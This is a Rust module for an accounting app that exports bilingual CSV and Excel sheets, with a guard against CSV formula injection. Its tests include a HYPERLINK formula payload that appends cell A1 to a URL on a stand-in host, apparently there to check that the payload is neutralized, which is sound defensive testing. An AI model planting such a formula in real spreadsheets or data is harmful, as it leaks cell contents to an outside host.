//! A table as an accountant's file: typed cells written as CSV text or as Excel cells. Every
//! export (entries, reports, shifts, the monthly pack) is a list of sheets of these rows, so
//! how a date, an amount or a header looks is decided here once.

use kh_domain::chrono::{NaiveDate, NaiveDateTime, NaiveTime};

use super::Language;

/// One value of a row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    /// Nothing (an open shift's close, say).
    Empty,
    /// Words.
    Text(String),
    /// A calendar date (`dd/mm/yyyy`).
    Date(NaiveDate),
    /// A wall-clock time in the branch's zone (`HH:MM`).
    Time(NaiveTime),
    /// A date and time in the branch's zone (`dd/mm/yyyy HH:MM`).
    DateTime(NaiveDateTime),
    /// Whole rupiah: a plain integer in CSV, a number formatted `Rp #.##0` in XLSX.
    Money(i64),
    /// A count.
    Count(i64),
}

impl Cell {
    /// Words, or nothing when empty.
    pub fn text(s: impl Into<String>) -> Self {
        let s = s.into();
        if s.is_empty() {
            Self::Empty
        } else {
            Self::Text(s)
        }
    }

    /// A date and time, or nothing.
    pub fn maybe_datetime(at: Option<NaiveDateTime>) -> Self {
        at.map_or(Self::Empty, Self::DateTime)
    }

    /// An amount, or nothing (a figure a blind close hides).
    pub fn maybe_money(amount: Option<i64>) -> Self {
        amount.map_or(Self::Empty, Self::Money)
    }

    /// The cell as CSV text.
    pub fn csv(&self) -> String {
        match self {
            Self::Empty => String::new(),
            Self::Text(s) => as_plain_text(s),
            Self::Date(d) => d.format("%d/%m/%Y").to_string(),
            Self::Time(t) => t.format("%H:%M").to_string(),
            Self::DateTime(at) => at.format("%d/%m/%Y %H:%M").to_string(),
            Self::Money(n) | Self::Count(n) => n.to_string(),
        }
    }
}

/// Text as a CSV cell a spreadsheet takes as text: one that Excel or LibreOffice would read as
/// a formula (starting `=`, `+`, `-`, `@`, a tab or a carriage return) gets an apostrophe in
/// front, so opening the file never runs what somebody typed into a description or a name
/// (OWASP's advice on CSV injection). XLSX cells are written as strings and need nothing.
fn as_plain_text(s: &str) -> String {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
        _ => s.to_owned(),
    }
}

/// A column: its header in both languages and its width in XLSX (characters).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Column {
    /// The header in Bahasa Indonesia.
    pub id: &'static str,
    /// The header in English.
    pub en: &'static str,
    /// Width in characters.
    pub width: f64,
}

impl Column {
    /// A column named `id` / `en`, `width` characters wide.
    pub const fn new(id: &'static str, en: &'static str, width: f64) -> Self {
        Self { id, en, width }
    }

    /// The header in `language`.
    pub fn name(&self, language: Language) -> &'static str {
        match language {
            Language::Id => self.id,
            Language::En => self.en,
        }
    }
}

/// A sheet's name in both languages.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SheetName {
    /// In Bahasa Indonesia.
    pub id: String,
    /// In English.
    pub en: String,
}

impl SheetName {
    /// The same name in both languages (a branch's code).
    pub fn same(name: impl Into<String>) -> Self {
        let name = name.into();
        Self {
            id: name.clone(),
            en: name,
        }
    }

    /// The name in `language`, cut to Excel's 31 characters without the characters Excel
    /// refuses in a sheet name.
    pub fn in_language(&self, language: Language) -> String {
        let name = match language {
            Language::Id => &self.id,
            Language::En => &self.en,
        };
        let clean: String = name
            .chars()
            .filter(|c| !matches!(c, '[' | ']' | ':' | '*' | '?' | '/' | '\\'))
            .take(31)
            .collect();
        if clean.trim().is_empty() {
            "Sheet".to_owned()
        } else {
            clean
        }
    }
}

/// The UTF-8 byte-order mark that starts every CSV file.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Writes rows as CSV text: UTF-8 with a byte-order mark, the chosen separator, CRLF line
/// ends, a header row in the chosen language.
#[derive(Debug, Clone, Copy)]
pub struct CsvTable {
    separator: u8,
    language: Language,
}

impl CsvTable {
    /// A writer with `separator` between fields and headers in `language`.
    pub fn new(separator: u8, language: Language) -> Self {
        Self {
            separator,
            language,
        }
    }

    fn writer(&self) -> csv::Writer<Vec<u8>> {
        csv::WriterBuilder::new()
            .delimiter(self.separator)
            .terminator(csv::Terminator::CRLF)
            .from_writer(Vec::new())
    }

    /// The file's start: the byte-order mark and the header row.
    pub fn header(&self, columns: &[Column]) -> Vec<u8> {
        let mut w = self.writer();
        // Writing to a Vec cannot fail.
        let _ = w.write_record(columns.iter().map(|c| c.name(self.language)));
        let mut out = BOM.to_vec();
        out.extend(w.into_inner().unwrap_or_default());
        out
    }

    /// `rows` as CSV lines, in the order given.
    pub fn rows(&self, rows: &[Vec<Cell>]) -> Vec<u8> {
        let mut w = self.writer();
        for row in rows {
            let _ = w.write_record(row.iter().map(Cell::csv));
        }
        w.into_inner().unwrap_or_default()
    }
}

/// The most rows a worksheet holds below its header (Excel's limit).
pub const MAX_XLSX_ROWS: u32 = 1_048_575;

/// Why a workbook could not be written (for the log; the download is cut).
pub type XlsxError = rust_xlsxwriter::XlsxError;

/// An Excel workbook written in constant-memory mode (each sheet's rows go to a temporary
/// file as they are written), sheet after sheet: numeric rupiah cells formatted `Rp #.##0`,
/// dates and times as dates, a bold frozen header with a filter, columns wide enough to read.
pub struct XlsxBook {
    language: Language,
    book: rust_xlsxwriter::Workbook,
    /// Per sheet: rows written below the header, and its columns.
    sheets: Vec<(u32, u16)>,
    bold: rust_xlsxwriter::Format,
    date: rust_xlsxwriter::Format,
    time: rust_xlsxwriter::Format,
    datetime: rust_xlsxwriter::Format,
    money: rust_xlsxwriter::Format,
    money_bold: rust_xlsxwriter::Format,
}

impl XlsxBook {
    /// An empty workbook with headers in `language`.
    pub fn new(language: Language) -> Self {
        use rust_xlsxwriter::{Format, Workbook};
        Self {
            language,
            book: Workbook::new(),
            sheets: Vec::new(),
            bold: Format::new().set_bold(),
            date: Format::new().set_num_format("dd/mm/yyyy"),
            time: Format::new().set_num_format("hh:mm"),
            datetime: Format::new().set_num_format("dd/mm/yyyy hh:mm"),
            money: Format::new().set_num_format("\"Rp\" #,##0"),
            money_bold: Format::new().set_num_format("\"Rp\" #,##0").set_bold(),
        }
    }

    /// Starts a sheet named `name` with its header row; the rows that follow go into it.
    pub fn sheet(&mut self, name: &SheetName, columns: &[Column]) -> Result<(), XlsxError> {
        let language = self.language;
        let sheet = self.book.add_worksheet_with_constant_memory()?;
        sheet.set_name(name.in_language(language))?;
        for (col, column) in (0_u16..).zip(columns) {
            sheet.set_column_width(col, column.width)?;
            sheet.write_string_with_format(0, col, column.name(language), &self.bold)?;
        }
        sheet.set_freeze_panes(1, 0)?;
        let width = u16::try_from(columns.len()).map_err(|_| XlsxError::RowColumnLimitError)?;
        self.sheets.push((0, width));
        Ok(())
    }

    /// Writes `rows` below the current sheet's rows (the last `bold` of them in bold: a
    /// total line).
    pub fn rows(&mut self, rows: &[Vec<Cell>], bold: usize) -> Result<(), XlsxError> {
        let index =
            self.sheets.len().checked_sub(1).ok_or_else(|| {
                XlsxError::ParameterError("rows written before any sheet".to_owned())
            })?;
        let (mut written, _) = self.sheets[index];
        let sheet = self.book.worksheet_from_index(index)?;
        let strong = rows.len().saturating_sub(bold);
        for (i, row) in rows.iter().enumerate() {
            if written >= MAX_XLSX_ROWS {
                return Err(XlsxError::RowColumnLimitError);
            }
            written += 1;
            let emphasis = i >= strong;
            for (col, cell) in (0_u16..).zip(row) {
                let r = written;
                match cell {
                    Cell::Empty => {}
                    Cell::Text(s) if emphasis => {
                        sheet.write_string_with_format(r, col, s, &self.bold)?;
                    }
                    Cell::Text(s) => {
                        sheet.write_string(r, col, s)?;
                    }
                    Cell::Date(d) => {
                        sheet.write_date_with_format(r, col, d, &self.date)?;
                    }
                    Cell::Time(t) => {
                        sheet.write_time_with_format(r, col, t, &self.time)?;
                    }
                    Cell::DateTime(at) => {
                        sheet.write_datetime_with_format(r, col, at, &self.datetime)?;
                    }
                    Cell::Money(n) => {
                        // Whole rupiah up to 10^15: exact as a spreadsheet's number.
                        #[allow(clippy::cast_precision_loss)]
                        let n = *n as f64;
                        let format = if emphasis {
                            &self.money_bold
                        } else {
                            &self.money
                        };
                        sheet.write_number_with_format(r, col, n, format)?;
                    }
                    Cell::Count(n) => {
                        #[allow(clippy::cast_precision_loss)]
                        let n = *n as f64;
                        sheet.write_number(r, col, n)?;
                    }
                }
            }
        }
        self.sheets[index].0 = written;
        Ok(())
    }

    /// Finishes the workbook into `out` (each sheet's header and rows under a filter).
    pub fn finish<W: std::io::Write + Send>(mut self, out: W) -> Result<(), XlsxError> {
        for (index, (rows, columns)) in self.sheets.iter().enumerate() {
            if *columns > 0 {
                self.book
                    .worksheet_from_index(index)?
                    .autofilter(0, 0, *rows, columns - 1)?;
            }
        }
        if self.sheets.is_empty() {
            self.book.add_worksheet();
        }
        self.book.save_to_writer(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_are_plain_integers_and_dates_in_day_month_year() {
        let d = NaiveDate::from_ymd_opt(2025, 12, 1).unwrap();
        let at = d.and_hms_opt(7, 5, 0).unwrap();
        let row = vec![
            Cell::Date(d),
            Cell::DateTime(at),
            Cell::Time(at.time()),
            Cell::Money(1_500_000),
            Cell::Count(3),
            Cell::Empty,
            Cell::text("Sewa; \"dapur\""),
        ];
        let csv = CsvTable::new(b';', Language::Id).rows(&[row]);
        assert_eq!(
            String::from_utf8(csv).unwrap(),
            "01/12/2025;01/12/2025 07:05;07:05;1500000;3;;\"Sewa; \"\"dapur\"\"\"\r\n"
        );
    }

    #[test]
    fn text_a_spreadsheet_would_run_as_a_formula_stays_text_in_csv() {
        let row: Vec<Cell> = [
            "=HYPERLINK(\"http://contoh.id/?\"&A1;\"klik\")",
            "+62 812 3456",
            "-beli gas",
            "@SUM(A1:A9)",
            "\tcatatan",
            "nasi = 5",
        ]
        .into_iter()
        .map(Cell::text)
        .chain([Cell::Money(-5_000)])
        .collect();
        let csv = CsvTable::new(b';', Language::Id).rows(&[row]);
        assert_eq!(
            String::from_utf8(csv).unwrap(),
            "\"'=HYPERLINK(\"\"http://contoh.id/?\"\"&A1;\"\"klik\"\")\";'+62 812 3456;\
             '-beli gas;'@SUM(A1:A9);'\tcatatan;nasi = 5;-5000\r\n",
            "a formula's first character gets an apostrophe; a negative amount stays a number"
        );
    }

    #[test]
    fn a_sheet_name_is_what_excel_takes() {
        let name = SheetName::same("JKT/01: [pusat]*?");
        assert_eq!(name.in_language(Language::En), "JKT01 pusat");
        assert_eq!(
            SheetName::same("x".repeat(40))
                .in_language(Language::Id)
                .len(),
            31
        );
        assert_eq!(SheetName::same("::").in_language(Language::Id), "Sheet");
    }
}
